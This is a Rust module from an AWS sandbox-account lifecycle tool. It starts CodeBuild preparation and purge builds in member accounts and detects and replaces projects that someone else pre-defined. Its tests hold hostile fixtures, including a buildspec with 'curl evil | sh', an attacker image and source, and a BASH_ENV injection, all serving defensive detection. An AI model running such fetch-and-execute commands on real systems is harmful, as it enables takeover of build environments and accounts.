//! Where preparation and purge run: CodeBuild in the member account (through
//! `automation.account_role`, assumed with STS), or locally, where a build is recorded and
//! succeeds at once (simulations and the local default).
//!
//! The buildspecs are the files of `buildspecs/`, built into the binary, so the function that
//! starts a build carries the very specification the repository tests.

use std::collections::BTreeMap;
use std::sync::Mutex;
use std::sync::atomic::{AtomicU64, Ordering};

use aws_sdk_codebuild::types::{
    ArtifactsType, CacheType, ComputeType, EnvironmentType, EnvironmentVariable,
    ImagePullCredentialsType, LogsConfigStatusType, Project, ProjectArtifacts, ProjectEnvironment,
    ProjectSource, ProjectVisibilityType, SourceType,
};
use spa_core::Settings;
use spa_core::aws::ApiError;
use spa_core::settings::{AccountId, Adapter};

use crate::Error;
use crate::decide::{BuildKind, BuildRequest};

/// `buildspecs/prepare-account.yaml`.
pub(crate) const PREPARE_BUILDSPEC: &str = include_str!("../../buildspecs/prepare-account.yaml");
/// `buildspecs/purge-account.yaml`.
pub(crate) const PURGE_BUILDSPEC: &str = include_str!("../../buildspecs/purge-account.yaml");

/// The buildspec of a build.
pub fn buildspec(kind: BuildKind) -> &'static str {
    match kind {
        BuildKind::Preparation => PREPARE_BUILDSPEC,
        BuildKind::Purge => PURGE_BUILDSPEC,
    }
}

/// CodeBuild image of the projects the lifecycle creates.
const IMAGE: &str = "aws/codebuild/amazonlinux-x86_64-standard:5.0";

/// The regions enabled by default in every account (those opened before March 2019); what the
/// local adapter, which has no account to ask, purges.
pub const DEFAULT_REGIONS: [&str; 17] = [
    "ap-northeast-1",
    "ap-northeast-2",
    "ap-northeast-3",
    "ap-south-1",
    "ap-southeast-1",
    "ap-southeast-2",
    "ca-central-1",
    "eu-central-1",
    "eu-north-1",
    "eu-west-1",
    "eu-west-2",
    "eu-west-3",
    "sa-east-1",
    "us-east-1",
    "us-east-2",
    "us-west-1",
    "us-west-2",
];

/// How many member configurations a process keeps: a build, then its state change, in the
/// same account within moments reuse the role; beyond that, a run over thousands of accounts
/// visits each once, and keeping them all would only grow the function's memory.
const MEMBERS_KEPT: usize = 64;

/// The member accounts' configurations (their assumed role's credentials), the most recent
/// [`MEMBERS_KEPT`], and how many roles were assumed.
#[derive(Default)]
pub struct Members {
    kept: std::collections::HashMap<AccountId, spa_core::aws::Assumed>,
    assumed: usize,
}

/// How long before they expire credentials are assumed again: longer than a step takes.
const RENEW_BEFORE: std::time::Duration = std::time::Duration::from_secs(300);

/// Whether credentials that expire at `expires` still serve at `now`: more than
/// [`RENEW_BEFORE`] left.
fn fresh(expires: std::time::SystemTime, now: std::time::SystemTime) -> bool {
    expires
        .duration_since(now)
        .is_ok_and(|left| left > RENEW_BEFORE)
}

/// The configuration of `account`'s member role: assumed through `roles` once while kept in
/// `members` and far from expiry.
async fn member(
    roles: &spa_core::aws::Roles,
    settings: &Settings,
    members: &tokio::sync::Mutex<Members>,
    account: &AccountId,
) -> Result<aws_config::SdkConfig, ApiError> {
    let mut members = members.lock().await;
    let now = std::time::SystemTime::now();
    if let Some(member) = members.kept.get(account).filter(|a| fresh(a.expires, now)) {
        return Ok(member.config.clone());
    }
    let role = &settings.automation.account_role;
    let member = roles.assume(account, role, "spa-lifecycle").await?;
    if members.kept.len() >= MEMBERS_KEPT {
        members.kept.clear();
    }
    members.kept.insert(account.clone(), member.clone());
    members.assumed += 1;
    Ok(member.config)
}

/// The regions enabled in the account of `member` (opted in or enabled by default), every page.
async fn enabled_regions(
    member: &aws_config::SdkConfig,
    counter: &spa_core::aws::RequestCounter,
) -> Result<Vec<String>, String> {
    use aws_sdk_account::types::RegionOptStatus;
    let client = aws_sdk_account::Client::from_conf(
        aws_sdk_account::config::Builder::from(member)
            .retry_config(spa_core::aws::patient_retries())
            .interceptor(counter.clone())
            .build(),
    );
    let mut pages = client
        .list_regions()
        .region_opt_status_contains(RegionOptStatus::Enabled)
        .region_opt_status_contains(RegionOptStatus::EnabledByDefault)
        .into_paginator()
        .send();
    let mut regions = Vec::new();
    while let Some(page) = pages.next().await {
        let page = page.map_err(|e| ApiError::new("ListRegions", &e).message)?;
        for region in page.regions() {
            // The filter already holds; checked again so that no other status slips in.
            let enabled = matches!(
                region.region_opt_status(),
                Some(RegionOptStatus::Enabled | RegionOptStatus::EnabledByDefault)
            );
            if let (Some(name), true) = (region.region_name(), enabled) {
                let name = name
                    .parse::<spa_core::settings::Region>()
                    .map_err(|e| format!("ListRegions answered a region named {name:?}: {e}"))?;
                regions.push(name.as_str().to_string());
            }
        }
    }
    if regions.is_empty() {
        return Err("ListRegions answered no enabled region".into());
    }
    Ok(regions)
}

/// A build started.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Started {
    /// The account.
    pub account: AccountId,
    /// Which build.
    pub kind: BuildKind,
    /// CodeBuild's build id (`project:uuid`), or a local one.
    pub id: String,
}

/// Starts builds.
pub enum Builds {
    /// Recorded; each succeeds at once.
    Local {
        /// Every build started, in order.
        started: Mutex<Vec<Started>>,
    },
    /// CodeBuild in the member accounts.
    Aws {
        /// Member roles, assumed with the automation account's credentials.
        roles: Box<spa_core::aws::Roles>,
        /// Environment name and roles.
        settings: Box<Settings>,
        /// Requests made.
        requests: AtomicU64,
        /// Attempts, retries and throttled answers of the CodeBuild, STS and Account clients.
        counter: spa_core::aws::RequestCounter,
        /// The member accounts' configurations, the most recent kept.
        members: tokio::sync::Mutex<Members>,
    },
}

impl Builds {
    /// The runner `settings.builds` names.
    pub(crate) async fn from_settings(settings: &Settings) -> Self {
        match settings.builds.adapter {
            Adapter::Local => Builds::Local {
                started: Mutex::new(Vec::new()),
            },
            Adapter::Aws => {
                let counter = spa_core::aws::RequestCounter::default();
                let config = spa_core::aws::sdk_config(settings).await;
                Builds::Aws {
                    roles: Box::new(spa_core::aws::Roles::new(&config, &counter)),
                    settings: Box::new(settings.clone()),
                    requests: AtomicU64::new(0),
                    counter,
                    members: Default::default(),
                }
            }
        }
    }

    /// Whether builds succeed at once (local).
    pub(crate) fn immediate(&self) -> bool {
        matches!(self, Builds::Local { .. })
    }

    /// Builds started so far (local only).
    pub fn started(&self) -> Vec<Started> {
        match self {
            Builds::Local { started } => started.lock().expect("not poisoned").clone(),
            Builds::Aws { .. } => Vec::new(),
        }
    }

    /// Starts `request` in `account`; returns the build id. The request's token makes a second
    /// start of the same build (a retried trigger) return the first one.
    pub async fn start(
        &self,
        account: &AccountId,
        request: &BuildRequest,
    ) -> Result<String, Error> {
        match self {
            Builds::Local { started } => {
                let id = format!(
                    "local-{}:{}",
                    request.kind.as_str(),
                    &request.token[..12.min(request.token.len())]
                );
                started.lock().expect("not poisoned").push(Started {
                    account: account.clone(),
                    kind: request.kind,
                    id: id.clone(),
                });
                Ok(id)
            }
            Builds::Aws {
                roles,
                settings,
                requests,
                counter,
                members,
            } => {
                let member = member(roles, settings, members, account)
                    .await
                    .map_err(|e| Error::build(account, e))?;
                let client = aws_sdk_codebuild::Client::from_conf(
                    aws_sdk_codebuild::config::Builder::from(&member)
                        .retry_config(spa_core::aws::patient_retries())
                        .interceptor(counter.clone())
                        .build(),
                );
                let project = request.kind.project(settings);
                let variables = environment(&request.variables).map_err(|e| Error::Build {
                    op: "StartBuild",
                    account: account.to_string(),
                    message: e.to_string(),
                })?;
                ensure_project(&client, settings, account, request.kind, requests).await?;
                requests.fetch_add(1, Ordering::Relaxed);
                // The definition was checked just now; the overrides hold even if it changed
                // since (only the VPC and file systems cannot be overridden).
                let output = client
                    .start_build()
                    .project_name(&project)
                    .source_type_override(SourceType::NoSource)
                    .buildspec_override(buildspec(request.kind))
                    .environment_type_override(EnvironmentType::LinuxContainer)
                    .image_override(IMAGE)
                    .compute_type_override(ComputeType::BuildGeneral1Small)
                    .privileged_mode_override(false)
                    .service_role_override(service_role(settings, account))
                    .timeout_in_minutes_override(TIMEOUT_MINUTES)
                    .idempotency_token(&request.token)
                    .set_environment_variables_override(Some(variables.clone()))
                    .send()
                    .await
                    .map_err(|e| Error::build(account, ApiError::new("StartBuild", &e)))?;
                output
                    .build_value()
                    .and_then(|b| b.id())
                    .map(str::to_string)
                    .ok_or_else(|| Error::Build {
                        op: "StartBuild",
                        account: account.to_string(),
                        message: "no build id in the answer".into(),
                    })
            }
        }
    }

    /// The regions a purge of `account` clears: `automation.purge_regions` when set, else the
    /// regions enabled in the account (the Account API there, through the member role; locally,
    /// [`DEFAULT_REGIONS`]), sorted, `global` first (aws-nuke's name for the global services).
    pub async fn purge_regions(
        &self,
        settings: &Settings,
        account: &AccountId,
    ) -> Result<Vec<String>, Error> {
        let mut regions: Vec<String> = if !settings.automation.purge_regions.is_empty() {
            settings
                .automation
                .purge_regions
                .iter()
                .map(|r| r.as_str().to_string())
                .collect()
        } else {
            match self {
                Builds::Local { .. } => DEFAULT_REGIONS.iter().map(|r| r.to_string()).collect(),
                Builds::Aws {
                    roles,
                    settings,
                    counter,
                    members,
                    ..
                } => {
                    let member = member(roles, settings, members, account)
                        .await
                        .map_err(|e| Error::Regions {
                            account: account.to_string(),
                            message: e.to_string(),
                        })?;
                    enabled_regions(&member, counter)
                        .await
                        .map_err(|message| Error::Regions {
                            account: account.to_string(),
                            message,
                        })?
                }
            }
        };
        regions.sort();
        regions.dedup();
        regions.insert(0, "global".into());
        Ok(regions)
    }

    /// CodeBuild requests made so far.
    pub fn requests(&self) -> u64 {
        match self {
            Builds::Local { .. } => 0,
            Builds::Aws { requests, .. } => requests.load(Ordering::Relaxed),
        }
    }

    /// Member roles assumed so far (once per account while its configuration is kept).
    pub async fn member_accounts(&self) -> usize {
        match self {
            Builds::Local { .. } => 0,
            Builds::Aws { members, .. } => members.lock().await.assumed,
        }
    }

    /// CodeBuild attempts so far: operations, retries, throttled answers.
    pub fn attempts(&self) -> spa_core::aws::Requests {
        match self {
            Builds::Local { .. } => spa_core::aws::Requests::default(),
            Builds::Aws { counter, .. } => counter.requests(),
        }
    }
}

fn environment(
    variables: &BTreeMap<String, String>,
) -> Result<Vec<EnvironmentVariable>, aws_sdk_codebuild::error::BuildError> {
    variables
        .iter()
        .map(|(k, v)| EnvironmentVariable::builder().name(k).value(v).build())
        .collect()
}

/// Build timeout of the projects the lifecycle creates.
const TIMEOUT_MINUTES: i32 = 60;

/// The role the lifecycle's builds run as in `account`: CodeBuild's service role, not the role
/// the automation assumes (which CodeBuild does not trust).
fn service_role(settings: &Settings, account: &AccountId) -> String {
    format!("arn:aws:iam::{account}:role/{}", settings.build_role())
}

/// How a project found in a member account differs from the one the lifecycle creates, in
/// everything that decides what a build runs, as whom, where, and who sees it: empty when it is
/// ours. A project someone else defined under our name (a holder can create one before the
/// first build) would otherwise run their image, their role, their variables.
pub fn differences(project: &Project, kind: BuildKind, role: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut differs = |what: &str, found: String| out.push(format!("{what}: {found}"));
    match project.source() {
        Some(s) if *s.r#type() == SourceType::NoSource => {
            if s.buildspec() != Some(buildspec(kind)) {
                differs("buildspec", "not the lifecycle's".into());
            }
        }
        other => differs(
            "source",
            format!("{:?}", other.map(|s| s.r#type().as_str())),
        ),
    }
    if !project.secondary_sources().is_empty() {
        differs(
            "secondary sources",
            project.secondary_sources().len().to_string(),
        );
    }
    if !project.secondary_artifacts().is_empty() {
        differs(
            "secondary artifacts",
            project.secondary_artifacts().len().to_string(),
        );
    }
    match project.artifacts().map(|a| a.r#type()) {
        Some(ArtifactsType::NoArtifacts) => {}
        other => differs("artifacts", format!("{:?}", other.map(|t| t.as_str()))),
    }
    match project.environment() {
        Some(e) => {
            if *e.r#type() != EnvironmentType::LinuxContainer {
                differs("environment type", e.r#type().as_str().into());
            }
            if e.image() != IMAGE {
                differs("image", e.image().into());
            }
            if *e.compute_type() != ComputeType::BuildGeneral1Small {
                differs("compute type", e.compute_type().as_str().into());
            }
            if e.privileged_mode() == Some(true) {
                differs("privileged mode", "on".into());
            }
            if !e.environment_variables().is_empty() {
                let names: Vec<&str> = e.environment_variables().iter().map(|v| v.name()).collect();
                differs("environment variables", names.join(", "));
            }
            if e.certificate().is_some() {
                differs("certificate", "set".into());
            }
            if e.registry_credential().is_some() {
                differs("registry credential", "set".into());
            }
            if e.fleet().is_some() {
                differs("fleet", "set".into());
            }
            if e.docker_server().is_some() {
                differs("docker server", "set".into());
            }
            if e.image_pull_credentials_type()
                .is_some_and(|t| *t != ImagePullCredentialsType::Codebuild)
            {
                differs("image pull credentials", "the service role's".into());
            }
        }
        None => differs("environment", "none".into()),
    }
    if project.service_role() != Some(role) {
        differs(
            "service role",
            project.service_role().unwrap_or("none").into(),
        );
    }
    if project.vpc_config().is_some_and(|v| v.vpc_id().is_some()) {
        differs("VPC", "set".into());
    }
    if !project.file_system_locations().is_empty() {
        differs(
            "file systems",
            project.file_system_locations().len().to_string(),
        );
    }
    if project
        .cache()
        .is_some_and(|c| *c.r#type() != CacheType::NoCache)
    {
        differs("cache", "set".into());
    }
    if project
        .logs_config()
        .and_then(|l| l.s3_logs())
        .is_some_and(|l| *l.status() == LogsConfigStatusType::Enabled)
    {
        differs("S3 logs", "on".into());
    }
    if project
        .project_visibility()
        .is_some_and(|v| *v != ProjectVisibilityType::Private)
    {
        differs("visibility", "public".into());
    }
    if project.build_batch_config().is_some() {
        differs("batch builds", "set".into());
    }
    out
}

/// Makes sure the account's project for `kind` is the lifecycle's own: created when missing,
/// deleted and created again when [`differences`] finds anything (logged with what differed).
async fn ensure_project(
    client: &aws_sdk_codebuild::Client,
    settings: &Settings,
    account: &AccountId,
    kind: BuildKind,
    requests: &AtomicU64,
) -> Result<(), Error> {
    let project = kind.project(settings);
    requests.fetch_add(1, Ordering::Relaxed);
    let found = client
        .batch_get_projects()
        .names(&project)
        .send()
        .await
        .map_err(|e| Error::build(account, ApiError::new("BatchGetProjects", &e)))?;
    if let Some(existing) = found.projects().first() {
        let differs = differences(existing, kind, &service_role(settings, account));
        if differs.is_empty() {
            return Ok(());
        }
        tracing::warn!(%account, %project, differs = %differs.join("; "), "project is not the lifecycle's: replaced");
        requests.fetch_add(1, Ordering::Relaxed);
        client
            .delete_project()
            .name(&project)
            .send()
            .await
            .map_err(|e| Error::build(account, ApiError::new("DeleteProject", &e)))?;
    }
    requests.fetch_add(1, Ordering::Relaxed);
    create_project(client, settings, account, kind, &project).await
}

async fn create_project(
    client: &aws_sdk_codebuild::Client,
    settings: &Settings,
    account: &AccountId,
    kind: BuildKind,
    project: &str,
) -> Result<(), Error> {
    let invalid = |e: aws_sdk_codebuild::error::BuildError| Error::Build {
        op: "CreateProject",
        account: account.to_string(),
        message: e.to_string(),
    };
    let source = ProjectSource::builder()
        .r#type(SourceType::NoSource)
        .buildspec(buildspec(kind))
        .build()
        .map_err(invalid)?;
    let artifacts = ProjectArtifacts::builder()
        .r#type(ArtifactsType::NoArtifacts)
        .build()
        .map_err(invalid)?;
    let environment = ProjectEnvironment::builder()
        .r#type(EnvironmentType::LinuxContainer)
        .image(IMAGE)
        .compute_type(ComputeType::BuildGeneral1Small)
        .build()
        .map_err(invalid)?;
    let role = service_role(settings, account);
    match client
        .create_project()
        .name(project)
        .description(format!(
            "Sandbox {} (created by the lifecycle of {})",
            kind.as_str(),
            settings.environment_identifier.as_str()
        ))
        .source(source)
        .artifacts(artifacts)
        .environment(environment)
        .service_role(role)
        .timeout_in_minutes(TIMEOUT_MINUTES)
        .send()
        .await
    {
        Ok(_) => Ok(()),
        // Created meanwhile by a concurrent start.
        Err(e)
            if e.as_service_error()
                .is_some_and(|s| s.is_resource_already_exists_exception()) =>
        {
            Ok(())
        }
        Err(e) => Err(Error::build(account, ApiError::new("CreateProject", &e))),
    }
}

#[cfg(test)]
mod tests {
    use aws_sdk_codebuild::types::builders::{ProjectBuilder, ProjectEnvironmentBuilder};
    use aws_sdk_codebuild::types::*;

    use super::*;

    const ROLE: &str = "arn:aws:iam::300001010101:role/spa-demo-build";

    fn environment() -> ProjectEnvironmentBuilder {
        ProjectEnvironment::builder()
            .r#type(EnvironmentType::LinuxContainer)
            .image(IMAGE)
            .compute_type(ComputeType::BuildGeneral1Small)
    }

    /// The project the lifecycle creates, with `edit` applied.
    fn project(edit: impl FnOnce(ProjectBuilder) -> ProjectBuilder) -> Project {
        let ours = Project::builder()
            .name("spa-prepare-account")
            .source(
                ProjectSource::builder()
                    .r#type(SourceType::NoSource)
                    .buildspec(buildspec(BuildKind::Preparation))
                    .build()
                    .unwrap(),
            )
            .artifacts(
                ProjectArtifacts::builder()
                    .r#type(ArtifactsType::NoArtifacts)
                    .build()
                    .unwrap(),
            )
            .environment(environment().build().unwrap())
            .service_role(ROLE)
            .cache(
                ProjectCache::builder()
                    .r#type(CacheType::NoCache)
                    .build()
                    .unwrap(),
            );
        edit(ours).build()
    }

    /// Ours passes; each way a pre-created project can change what a build runs, as whom,
    /// where or for whose eyes is found, and named.
    #[test]
    fn member_credentials_are_renewed_five_minutes_before_they_expire() {
        use std::time::{Duration, SystemTime};
        let now = SystemTime::UNIX_EPOCH + Duration::from_secs(1_800_000_000);
        let minutes = |m: u64| Duration::from_secs(60 * m);
        assert!(fresh(now + minutes(60), now));
        assert!(fresh(now + minutes(6), now));
        assert!(!fresh(now + minutes(5), now));
        assert!(!fresh(now + minutes(4), now));
        assert!(!fresh(now - minutes(1), now));
    }

    #[test]
    fn a_project_is_ours_only_when_nothing_that_matters_differs() {
        let differs = |p: &Project| differences(p, BuildKind::Preparation, ROLE);
        assert_eq!(differs(&project(|p| p)), Vec::<String>::new());
        let env = |edit: fn(ProjectEnvironmentBuilder) -> ProjectEnvironmentBuilder| {
            edit(environment()).build().unwrap()
        };
        let variable = EnvironmentVariable::builder()
            .name("BASH_ENV")
            .value("/tmp/x")
            .build()
            .unwrap();
        let cases: Vec<(&str, Project)> = vec![
            (
                "image",
                project(|p| p.environment(env(|e| e.image("evil/image:latest")))),
            ),
            (
                "privileged mode",
                project(|p| p.environment(env(|e| e.privileged_mode(true)))),
            ),
            (
                "environment variables",
                project(|p| {
                    p.environment(
                        environment()
                            .environment_variables(variable)
                            .build()
                            .unwrap(),
                    )
                }),
            ),
            (
                "compute type",
                project(|p| {
                    p.environment(env(|e| e.compute_type(ComputeType::BuildGeneral12Xlarge)))
                }),
            ),
            (
                "environment type",
                project(|p| p.environment(env(|e| e.r#type(EnvironmentType::ArmContainer)))),
            ),
            (
                "certificate",
                project(|p| p.environment(env(|e| e.certificate("bucket/ca.pem")))),
            ),
            (
                "image pull credentials",
                project(|p| {
                    p.environment(env(|e| {
                        e.image_pull_credentials_type(ImagePullCredentialsType::ServiceRole)
                    }))
                }),
            ),
            (
                "service role",
                project(|p| p.service_role("arn:aws:iam::300001010101:role/holder-admin")),
            ),
            (
                "buildspec",
                project(|p| {
                    p.source(
                        ProjectSource::builder()
                            .r#type(SourceType::NoSource)
                            .buildspec("phases: {build: {commands: [curl evil | sh]}}")
                            .build()
                            .unwrap(),
                    )
                }),
            ),
            (
                "source",
                project(|p| {
                    p.source(
                        ProjectSource::builder()
                            .r#type(SourceType::Github)
                            .location("https://github.com/evil/repo")
                            .build()
                            .unwrap(),
                    )
                }),
            ),
            (
                "secondary sources",
                project(|p| {
                    p.secondary_sources(
                        ProjectSource::builder()
                            .r#type(SourceType::S3)
                            .location("evil/src.zip")
                            .build()
                            .unwrap(),
                    )
                }),
            ),
            (
                "artifacts",
                project(|p| {
                    p.artifacts(
                        ProjectArtifacts::builder()
                            .r#type(ArtifactsType::S3)
                            .location("evil")
                            .build()
                            .unwrap(),
                    )
                }),
            ),
            (
                "VPC",
                project(|p| p.vpc_config(VpcConfig::builder().vpc_id("vpc-1").build())),
            ),
            (
                "file systems",
                project(|p| {
                    p.file_system_locations(
                        ProjectFileSystemLocation::builder()
                            .location("fs-1.efs:/")
                            .build(),
                    )
                }),
            ),
            (
                "cache",
                project(|p| {
                    p.cache(
                        ProjectCache::builder()
                            .r#type(CacheType::S3)
                            .location("evil/cache")
                            .build()
                            .unwrap(),
                    )
                }),
            ),
            (
                "S3 logs",
                project(|p| {
                    p.logs_config(
                        LogsConfig::builder()
                            .s3_logs(
                                S3LogsConfig::builder()
                                    .status(LogsConfigStatusType::Enabled)
                                    .location("evil/logs")
                                    .build()
                                    .unwrap(),
                            )
                            .build(),
                    )
                }),
            ),
            (
                "visibility",
                project(|p| p.project_visibility(ProjectVisibilityType::PublicRead)),
            ),
            (
                "batch builds",
                project(|p| {
                    p.build_batch_config(
                        ProjectBuildBatchConfig::builder()
                            .service_role(ROLE)
                            .build(),
                    )
                }),
            ),
        ];
        for (what, hostile) in cases {
            let found = differs(&hostile);
            assert_eq!(found.len(), 1, "{what}: {found:?}");
            assert!(
                found[0].starts_with(&format!("{what}: ")),
                "{what}: {found:?}"
            );
        }
    }
}
